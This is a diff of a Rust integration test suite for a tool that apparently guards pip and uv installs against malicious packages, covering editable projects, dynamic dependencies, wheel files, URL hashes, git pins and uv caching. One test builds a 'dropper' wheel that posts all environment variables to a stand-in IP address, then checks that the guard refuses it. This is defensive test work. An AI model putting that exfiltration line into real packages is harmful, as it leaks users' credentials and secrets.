@@ -145,11 +145,32 @@ NAME = "benign_sdist"
 DIST = NAME + "-1.0"
 
 
+def _metadata(p):
+    deps = p.get("dependencies", [])
+    if "dependencies" in p.get("dynamic", []):
+        deps = [l.strip() for l in open("requirements.txt") if l.strip()]
+    meta = "Metadata-Version: 2.1\nName: %s\nVersion: %s\n" % (p["name"], p["version"])
+    return meta + "".join("Requires-Dist: %s\n" % d for d in deps)
+
+
+def prepare_metadata_for_build_wheel(metadata_directory, config_settings=None):
+    p = _project()
+    _log("%s metadata" % p["name"])
+    info = "%s-%s.dist-info" % (p["name"].replace("-", "_"), p["version"])
+    os.makedirs(os.path.join(metadata_directory, info))
+    with open(os.path.join(metadata_directory, info, "METADATA"), "w") as f:
+        f.write(_metadata(p))
+    return info
+
+
 def get_requires_for_build_wheel(config_settings=None):
     return []
 
 
 def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
+    if os.environ.get("GUARD_TEST_BUILD_LOG"):
+        with open(os.environ["GUARD_TEST_BUILD_LOG"], "a") as log:
+            log.write("benign-sdist built\n")
     filename = DIST + "-py3-none-any.whl"
     files = {
         NAME + "/__init__.py": "VALUE = 2\nSETUPTOOLS = %r\n" % setuptools.__version__,
@@ -418,4 +439,440 @@ fn pip_environment_cannot_widen_the_handoff() {
     assert!(installed(&env, "benign-wheel"));
     assert!(!installed(&env, "evil-pkg"));
     assert!(!env.canary.exists());
+}
+
+// ---------------------------------------------------------------------------
+// Issue 12: local projects, editable installs, files, URLs, git, uv.
+
+/// A PEP 517 backend for the user's own test projects: builds a wheel (or a
+/// PEP 660 editable wheel) from `pyproject.toml`'s `[project]` and `src/`.
+/// It imports setuptools, so the build environment must hold the setuptools
+/// guard inspected; each build appends a line to `$GUARD_TEST_BUILD_LOG`.
+const LOCAL_BACKEND: &str = r#"import base64, hashlib, os, tomllib, zipfile
+
+import setuptools  # provided offline, from guard's inspected files
+
+
+def _project():
+    with open("pyproject.toml", "rb") as f:
+        return tomllib.load(f)["project"]
+
+
+def _log(what):
+    path = os.environ.get("GUARD_TEST_BUILD_LOG")
+    if path:
+        with open(path, "a") as f:
+            f.write(what + "\n")
+
+
+def _build(wheel_directory, editable):
+    p = _project()
+    dist = p["name"].replace("-", "_")
+    version = p["version"]
+    _log("%s %s %s" % (p["name"], version, "editable" if editable else "wheel"))
+    meta = _metadata(p)
+    info = "%s-%s.dist-info" % (dist, version)
+    files = {info + "/METADATA": meta, info + "/WHEEL": "Wheel-Version: 1.0\nGenerator: fixture\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}
+    if editable:
+        files["__editable__.%s.pth" % dist] = os.path.abspath("src") + "\n"
+    else:
+        for root, _, names in os.walk("src"):
+            for n in names:
+                full = os.path.join(root, n)
+                files[os.path.relpath(full, "src")] = open(full).read()
+    filename = "%s-%s-py3-none-any.whl" % (dist, version)
+    lines = []
+    with zipfile.ZipFile(os.path.join(wheel_directory, filename), "w") as zf:
+        for path, content in files.items():
+            data = content.encode()
+            zf.writestr(path, data)
+            digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
+            lines.append("%s,sha256=%s,%d" % (path, digest, len(data)))
+        lines.append(info + "/RECORD,,")
+        zf.writestr(info + "/RECORD", "\n".join(lines) + "\n")
+    return filename
+
+
+def _metadata(p):
+    deps = p.get("dependencies", [])
+    if "dependencies" in p.get("dynamic", []):
+        deps = [l.strip() for l in open("requirements.txt") if l.strip()]
+    meta = "Metadata-Version: 2.1\nName: %s\nVersion: %s\n" % (p["name"], p["version"])
+    return meta + "".join("Requires-Dist: %s\n" % d for d in deps)
+
+
+def prepare_metadata_for_build_wheel(metadata_directory, config_settings=None):
+    p = _project()
+    _log("%s metadata" % p["name"])
+    info = "%s-%s.dist-info" % (p["name"].replace("-", "_"), p["version"])
+    os.makedirs(os.path.join(metadata_directory, info))
+    with open(os.path.join(metadata_directory, info, "METADATA"), "w") as f:
+        f.write(_metadata(p))
+    return info
+
+
+def get_requires_for_build_wheel(config_settings=None):
+    return []
+
+
+def get_requires_for_build_editable(config_settings=None):
+    return []
+
+
+def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
+    return _build(wheel_directory, False)
+
+
+def build_editable(wheel_directory, config_settings=None, metadata_directory=None):
+    return _build(wheel_directory, True)
+
+
+def build_sdist(sdist_directory, config_settings=None):
+    raise NotImplementedError
+"#;
+
+/// Writes a local project `dir` named `name` with these dependencies.
+fn local_project(dir: &std::path::Path, name: &str, version: &str, deps: &[&str]) {
+    let module = name.replace('-', "_");
+    std::fs::create_dir_all(dir.join("src").join(&module)).unwrap();
+    std::fs::create_dir_all(dir.join("_backend")).unwrap();
+    std::fs::write(dir.join("_backend/backend.py"), LOCAL_BACKEND).unwrap();
+    let deps: Vec<String> = deps.iter().map(|d| format!("{d:?}")).collect();
+    std::fs::write(
+        dir.join("pyproject.toml"),
+        format!(
+            "[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"backend\"\nbackend-path = [\"_backend\"]\n\n[project]\nname = \"{name}\"\nversion = \"{version}\"\ndependencies = [{}]\n",
+            deps.join(", ")
+        ),
+    )
+    .unwrap();
+    std::fs::write(dir.join("src").join(&module).join("__init__.py"), "VALUE = 'v1'\n").unwrap();
+}
+
+fn pip_show(env: &Env, dist: &str) -> String {
+    let out = Command::new(&env.python)
+        .args(["-m", "pip", "show", dist])
+        .env("PIP_DISABLE_PIP_VERSION_CHECK", "1")
+        .output()
+        .unwrap();
+    String::from_utf8_lossy(&out.stdout).into_owned()
+}
+
+/// The uv that `.ci/run` installs (GUARD_UV, else `uv` on PATH).
+fn uv() -> PathBuf {
+    if let Some(p) = std::env::var_os("GUARD_UV") {
+        return PathBuf::from(p);
+    }
+    let path = std::env::var_os("PATH").unwrap_or_default();
+    std::env::split_paths(&path)
+        .map(|d| d.join("uv"))
+        .find(|p| p.is_file())
+        .expect("uv is needed for these tests: `pip install uv` (.ci/run does)")
+}
+
+#[test]
+fn editable_local_project_installs_with_inspected_dependencies() {
+    let env = setup();
+    let proj = env.project().join("mine");
+    local_project(&proj, "mine", "0.1", &["benign-wheel"]);
+    let report = env.dir.path().join("report.json");
+    let out = env.guard(&["-e", "./mine", "--report", report.to_str().unwrap()]);
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
+    // pip's installation report covers both runs: the dependency and the project.
+    let report: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(&report).unwrap()).unwrap();
+    let names: Vec<&str> = report["install"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter_map(|i| i["metadata"]["name"].as_str())
+        .collect();
+    assert!(names.contains(&"benign-wheel") && names.contains(&"mine"), "{names:?}");
+    let show = pip_show(&env, "mine");
+    assert!(
+        show.contains(&format!(
+            "Editable project location: {}",
+            proj.canonicalize().unwrap().display()
+        )),
+        "{show}\n{}",
+        text(&out)
+    );
+    assert!(installed(&env, "benign-wheel"), "{}", text(&out));
+    assert!(env.imports("mine"));
+    // Edits show without reinstalling: it is editable.
+    std::fs::write(proj.join("src/mine/__init__.py"), "VALUE = 'edited'\n").unwrap();
+    let v = Command::new(&env.python)
+        .args(["-c", "import mine; print(mine.VALUE)"])
+        .output()
+        .unwrap();
+    assert_eq!(String::from_utf8_lossy(&v.stdout).trim(), "edited");
+    // A compact summary, not pip's `Processing /tmp/guard-handoff-…` lines.
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    assert!(stdout.contains("+ benign-wheel==1.0"), "{}", text(&out));
+    assert!(stdout.contains("+ mine (editable"), "{}", text(&out));
+    assert!(!stdout.contains("Processing"), "{}", text(&out));
+    // The plan says the project is the user's own.
+    let dry = env.guard(&["-e", "./mine", "--dry-run", "--format", "json"]);
+    let plan: serde_json::Value = serde_json::from_slice(&dry.stdout).unwrap();
+    assert_eq!(plan["local"][0]["verdict"], "local", "{plan}");
+    assert_eq!(plan["local"][0]["editable"], true, "{plan}");
+    assert!(plan["packages"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .any(|p| p["name"] == "setuptools" && p["build_dependency"] == true));
+}
+
+#[test]
+fn dynamic_dependencies_come_from_the_metadata_hook_with_inspected_backend() {
+    let env = setup();
+    let log = env.dir.path().join("builds.log");
+    let proj = env.project().join("dyn");
+    local_project(&proj, "dyn-proj", "0.3", &[]);
+    let pyproject = std::fs::read_to_string(proj.join("pyproject.toml")).unwrap();
+    std::fs::write(
+        proj.join("pyproject.toml"),
+        pyproject.replace("dependencies = []", "dynamic = [\"dependencies\"]"),
+    )
+    .unwrap();
+    std::fs::write(proj.join("requirements.txt"), "benign-wheel\n").unwrap();
+    let out = env
+        .command(&["-e", "./dyn"])
+        .env("GUARD_TEST_BUILD_LOG", &log)
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
+    assert!(
+        installed(&env, "benign-wheel"),
+        "the hook's dependency was installed\n{}",
+        text(&out)
+    );
+    assert!(installed(&env, "dyn-proj"));
+    let builds = std::fs::read_to_string(&log).unwrap();
+    assert!(builds.contains("dyn-proj metadata"), "{builds}");
+    // A malicious dependency named only by the hook is refused like any other.
+    let env = setup();
+    local_project(&env.project().join("dyn"), "dyn-proj", "0.3", &[]);
+    let p = env.project().join("dyn");
+    std::fs::write(
+        p.join("pyproject.toml"),
+        pyproject.replace("dependencies = []", "dynamic = [\"dependencies\"]"),
+    )
+    .unwrap();
+    std::fs::write(p.join("requirements.txt"), "evil-pkg\n").unwrap();
+    let out = env.guard(&["./dyn"]);
+    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
+    assert!(!installed(&env, "dyn-proj") && !env.canary.exists());
+}
+
+#[test]
+fn local_project_with_a_malicious_dependency_installs_nothing() {
+    let env = setup();
+    let proj = env.project().join("mine");
+    local_project(&proj, "mine", "0.1", &["benign-wheel", "evil-pkg"]);
+    for args in [&["-e", "./mine"][..], &["./mine"], &["./mine", "--installer", "uv"]] {
+        let out = env.command(args).env("GUARD_UV", uv()).output().unwrap();
+        assert_eq!(out.status.code(), Some(1), "{args:?}\n{}", text(&out));
+        let stdout = String::from_utf8_lossy(&out.stdout);
+        assert!(stdout.contains("evil-pkg") && stdout.contains("DENY"), "{}", text(&out));
+        assert!(!installed(&env, "mine"), "the project itself is not installed either");
+        assert!(!installed(&env, "benign-wheel"));
+        assert!(!env.canary.exists(), "setup.py ran");
+    }
+}
+
+#[test]
+fn local_malicious_wheel_file_is_refused_and_benign_one_installs() {
+    let env = setup();
+    let (name, bytes) = wheel_with(
+        "dropper",
+        "import os\nurllib.request.urlopen('http://198.51.100.7/c', data=repr(dict(os.environ)).encode())\n",
+    );
+    let dist = env.project().join("dist");
+    std::fs::create_dir_all(&dist).unwrap();
+    std::fs::write(dist.join(&name), bytes).unwrap();
+    let out = env.guard(&[&format!("./dist/{name}")]);
+    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
+    assert!(String::from_utf8_lossy(&out.stdout).contains("DENY"), "{}", text(&out));
+    assert!(!installed(&env, "dropper"));
+
+    let (name, bytes) = wheel("handed-over", "2.0", &["benign-wheel"]);
+    std::fs::write(dist.join(&name), bytes).unwrap();
+    let out = env.guard(&[&format!("./dist/{name}")]);
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
+    assert!(installed(&env, "handed-over"));
+    assert!(installed(&env, "benign-wheel"), "its dependency came from the index");
+}
+
+#[test]
+fn url_requirement_is_hash_checked() {
+    let env = setup();
+    let (name, bytes) = wheel("by-url", "1.0", &[]);
+    let good = sha(&bytes);
+    env.index.route(
+        &format!("/direct/{name}"),
+        bytes,
+        "application/octet-stream",
+        Fault::None,
+    );
+    let base = format!("http://127.0.0.1:{}/direct/{name}", env.index.port);
+    let out = env.guard(&[&format!("by-url @ {base}#sha256={}", "0".repeat(64))]);
+    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
+    assert!(
+        String::from_utf8_lossy(&out.stderr).contains("sha256"),
+        "{}",
+        text(&out)
+    );
+    assert!(!installed(&env, "by-url"));
+    let out = env.guard(&[&format!("by-url @ {base}#sha256={good}")]);
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
+    assert!(installed(&env, "by-url"));
+}
+
+#[test]
+fn requirements_file_mixing_projects_files_urls_and_names_is_one_install() {
+    let env = setup();
+    let p = env.project();
+    local_project(&p.join("a"), "proj-a", "0.1", &["benign-wheel"]);
+    local_project(&p.join("b"), "proj-b", "0.2", &[]);
+    let (name, bytes) = wheel("from-url", "1.0", &[]);
+    env.index.route(
+        &format!("/direct/{name}"),
+        bytes,
+        "application/octet-stream",
+        Fault::None,
+    );
+    let url = format!("from-url @ http://127.0.0.1:{}/direct/{name}", env.index.port);
+    std::fs::write(
+        p.join("requirements.txt"),
+        format!("-e ./a\n./b\n{url}\nbenign-sdist\n"),
+    )
+    .unwrap();
+    let out = env.guard(&["-r", "requirements.txt"]);
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
+    for dist in ["proj-a", "proj-b", "from-url", "benign-sdist", "benign-wheel"] {
+        assert!(installed(&env, dist), "{dist}\n{}", text(&out));
+    }
+    assert!(pip_show(&env, "proj-a").contains("Editable project location"));
+    assert!(!pip_show(&env, "proj-b").contains("Editable project location"));
+
+    // The same file with a denied package in it: nothing at all.
+    let env = setup();
+    let p = env.project();
+    local_project(&p.join("a"), "proj-a", "0.1", &[]);
+    std::fs::write(p.join("requirements.txt"), "-e ./a\nbenign-wheel\nevil-pkg\n").unwrap();
+    let out = env.guard(&["-r", "requirements.txt"]);
+    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
+    assert!(!installed(&env, "proj-a") && !installed(&env, "benign-wheel"));
+    assert!(!env.canary.exists());
+}
+
+#[test]
+fn git_repository_is_inspected_at_the_pinned_commit_then_installed() {
+    let env = setup();
+    let repo = env.dir.path().join("repo");
+    local_project(&repo, "from-git", "1.0", &[]);
+    let git = |args: &[&str]| {
+        let ok = Command::new("git")
+            .current_dir(&repo)
+            .args(["-c", "user.name=t", "-c", "user.email=t@example.org"])
+            .args(args)
+            .status()
+            .unwrap()
+            .success();
+        assert!(ok, "git {args:?}");
+    };
+    git(&["init", "-q", "-b", "main"]);
+    git(&["add", "."]);
+    git(&["commit", "-qm", "v1"]);
+    let pinned = String::from_utf8(
+        Command::new("git")
+            .current_dir(&repo)
+            .args(["rev-parse", "HEAD"])
+            .output()
+            .unwrap()
+            .stdout,
+    )
+    .unwrap()
+    .trim()
+    .to_string();
+    std::fs::write(repo.join("src/from_git/__init__.py"), "VALUE = 'v2'\n").unwrap();
+    git(&["commit", "-qam", "v2"]);
+    let url = format!("from-git @ git+file://{}@{pinned}", repo.display());
+    let dry = env.guard(&[&url, "--dry-run", "--format", "json"]);
+    assert_eq!(dry.status.code(), Some(0), "{}", text(&dry));
+    let plan: serde_json::Value = serde_json::from_slice(&dry.stdout).unwrap();
+    let pkg = plan["packages"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|p| p["name"] == "from-git")
+        .cloned()
+        .unwrap();
+    assert!(pkg["direct"].as_str().unwrap().ends_with(&pinned), "{pkg}");
+    assert_eq!(pkg["verdict"], "allow", "{pkg}");
+    let out = env.guard(&[&url]);
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
+    let v = Command::new(&env.python)
+        .args(["-c", "import from_git; print(from_git.VALUE)"])
+        .output()
+        .unwrap();
+    assert_eq!(
+        String::from_utf8_lossy(&v.stdout).trim(),
+        "v1",
+        "the pinned commit, not the branch head"
+    );
+}
+
+#[test]
+fn uv_installer_and_built_wheels_are_kept() {
+    let env = setup();
+    let log = env.dir.path().join("builds.log");
+    let proj = env.project().join("mine");
+    local_project(&proj, "mine", "0.1", &["benign-wheel", "benign-sdist"]);
+    let run = |env: &Env, args: &[&str]| {
+        env.command(args)
+            .env("GUARD_UV", uv())
+            .env("GUARD_TEST_BUILD_LOG", &log)
+            .output()
+            .unwrap()
+    };
+    let out = run(&env, &["--installer", "uv", "-e", "./mine"]);
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
+    assert!(
+        installed(&env, "benign-sdist") && installed(&env, "mine"),
+        "{}",
+        text(&out)
+    );
+    assert!(pip_show(&env, "mine").contains("Editable project location"));
+    let built = common::files_under(&env.cache().join("built-wheels-v1"));
+    assert!(
+        built
+            .iter()
+            .any(|p| p.to_string_lossy().ends_with("benign_sdist-1.0-py3-none-any.whl")),
+        "{built:?}"
+    );
+    // A second environment sharing the cache: the approved sdist's wheel is reused, not rebuilt.
+    let env2 = Env {
+        python: {
+            let venv = env.dir.path().join("venv2");
+            assert!(Command::new("python3")
+                .args(["-m", "venv"])
+                .arg(&venv)
+                .status()
+                .unwrap()
+                .success());
+            venv.join("bin/python")
+        },
+        ..env
+    };
+    let out = run(&env2, &["benign-sdist"]);
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
+    assert!(installed(&env2, "benign-sdist"));
+    let builds = std::fs::read_to_string(&log).unwrap_or_default();
+    assert_eq!(
+        builds.lines().filter(|l| l.starts_with("benign-sdist")).count(),
+        1,
+        "built once: {builds}"
+    );
+    assert_eq!(builds.lines().filter(|l| l.starts_with("mine")).count(), 1, "{builds}");
 }
